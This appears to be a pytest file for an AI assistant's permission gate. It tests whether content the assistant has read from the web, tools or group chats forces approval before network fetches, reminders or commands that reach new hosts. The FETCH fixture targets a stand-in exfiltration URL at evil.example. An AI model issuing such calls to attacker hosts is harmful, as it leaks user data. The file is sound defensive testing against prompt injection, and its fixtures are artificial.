"""What a conversation has read follows all that comes of it: helpers, what goes on by itself, what is looked up. And a yes is for what was shown."""

from collections.abc import AsyncGenerator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from assistant.access.recipients import Recipients
from assistant.access.session_gate import SessionGate
from assistant.approvals.book import ApprovalBook
from assistant.approvals.desk import StoredDesk
from assistant.contracts.addresses import Address
from assistant.contracts.causes import Cause
from assistant.contracts.gate import Action, PlannedCall
from assistant.contracts.memory import Memory
from assistant.contracts.messages import Text, UserMessage
from assistant.contracts.provenance import Provenance
from assistant.contracts.sessions import NewTurn
from assistant.contracts.tasks import NewTask
from assistant.contracts.tools import ToolContext
from assistant.contracts.util import new_id, utc_now
from assistant.store.database import AttachmentSettings, StoreSettings
from assistant.store.store import Store, open_store
from assistant.tasks.book import TaskBook
from tests.flow.inbound.rig import OneChannel
from tools.memory import Recall, RecallParams

GROUP = "chat:-5"
CTX = ToolContext(owner="local", session="api:s", turn_id="turn_1", call_id="c")


@pytest.fixture
async def store(tmp_path: Path) -> AsyncGenerator[Store]:
    opened = await open_store(StoreSettings(), tmp_path, AttachmentSettings())
    yield opened
    await opened.close()


async def said(store: Store, *parts: Text, session: str = "api:s", owner: str = "local", read: tuple[Provenance, ...] = ()) -> None:
    message = UserMessage(id=new_id("msg"), parts=parts)
    turn = NewTurn(id=new_id("turn"), owner=owner, session=session, message=message, read=frozenset(read))
    await store.sessions.begin_turn(turn, None)


def gate_of(store: Store) -> SessionGate:
    known: Any = {"channels": OneChannel(), "sessions": store.sessions, "people": store.people}
    recipients = Recipients("any", instructions="", inbox=store.inbox, pairings=store.pairings, **known)
    return SessionGate((), recipients=recipients, **known)


def planned(tool: str, does: Action, /, subject: str = "", **arguments: Any) -> PlannedCall:
    return PlannedCall(tool=tool, actions=frozenset({does}), arguments=arguments, subject=subject)


FETCH = planned("fetch_page", "network", url="https://evil.example/?d=1")


async def test_a_helper_has_read_what_its_parents_session_has(store: Store) -> None:
    book = TaskBook(store.tasks, store.sessions, ["main"])
    await said(store, Text(text="Eve: obey", author="chat:9"), Text(text="Ada: what?", author="chat:1"), session=GROUP, owner=GROUP)
    await said(store, Text(text="hello"), session="api:i", read=("web",))
    for number, (owner, session, read) in enumerate([(GROUP, GROUP, ("stranger",)), ("local", "api:i", ("web",))]):
        task = NewTask(id=f"task_{number}", owner=owner, text="x", session=session, turn_id="turn_1", agent="main")
        assert (await book.delegate(task)).new.inherits == read


async def test_an_address_in_what_a_helper_found_is_not_one_that_was_read(store: Store) -> None:
    await said(store, Text(text="Found: https://evil.example/?d=1", quoted=True, provenance="tool"))
    assert (await gate_of(store).rule(FETCH, CTX)).verdict == "ask"
    await said(store, Text(text="Passed on: https://evil.example/?d=1", quoted=True))
    assert (await gate_of(store).rule(FETCH, CTX)).verdict == "allow"


@pytest.mark.parametrize(("kind", "verdict"), [("job", "ask"), ("approval", "ask"), ("task", "ask"), ("message", "allow")])
async def test_what_follows_in_a_workflows_session_is_bound_by_what_it_read(store: Store, kind: Any, verdict: str) -> None:
    """A node acts by the workflow's file alone: "message"."""
    await said(store, Text(text="page", quoted=True, provenance="web"), session="job:1")
    ctx = replace(CTX, session="job:1", cause=Cause(kind=kind, id="x"))
    assert (await gate_of(store).rule(FETCH, ctx)).verdict == verdict


@pytest.mark.parametrize("to", ["chat:77", "Chat:77", " chat: 77"])
async def test_a_reminder_to_another_chat_is_asked_for_however_it_is_written(store: Store, to: str) -> None:
    await said(store, Text(text="Remind me of what it says"), Text(text="pay", quoted=True))
    call = planned("schedule", "schedules", action="add", kind="reminder", text="pay", to=to)
    ctx = replace(CTX, address=Address(channel="chat", chat_id="1"))
    assert (await gate_of(store).rule(call, ctx)).verdict == "ask"


async def test_what_is_looked_up_in_memory_brings_its_origin() -> None:
    now = utc_now()
    kept = Memory(id="mem_1", number=1, owner="local", text="x", provenance="file", seen_at=now)

    class OneMemory:
        async def recall(self, ctx: ToolContext, query: str, limit: int) -> list[Memory]:
            return [kept]

    assert (await Recall(OneMemory()).run(RecallParams(query=""), CTX)).provenance == "file"  # pyright: ignore[reportArgumentType] - it only recalls


async def test_a_yes_for_a_session_is_for_what_was_done_then(store: Store, tmp_path: Path) -> None:
    """A command whose comment reads like hosts, allowed without network, allows none with it."""

    async def chat(person: str) -> None:
        return None

    desk = StoredDesk(store.approvals, store.people, folder=lambda owner: "/w", chat=chat, expire_after=timedelta(hours=1))
    shown = planned("run", "writes workspace", "sh x.sh # evil.example", command="sh x.sh # evil.example", hosts=[])
    await said(store, Text(text="hello"))
    pending = await desk.ask(shown, CTX, "why")
    await ApprovalBook(store.approvals, folder=lambda owner: "/w").answer("local", pending.code, "session")
    assert await desk.granted(shown, CTX)
    hosts = {"command": "sh x.sh", "hosts": ["evil.example"]}
    other = replace(shown, actions=frozenset({"writes workspace", "network"}), arguments=hosts)
    assert not await desk.granted(other, CTX)
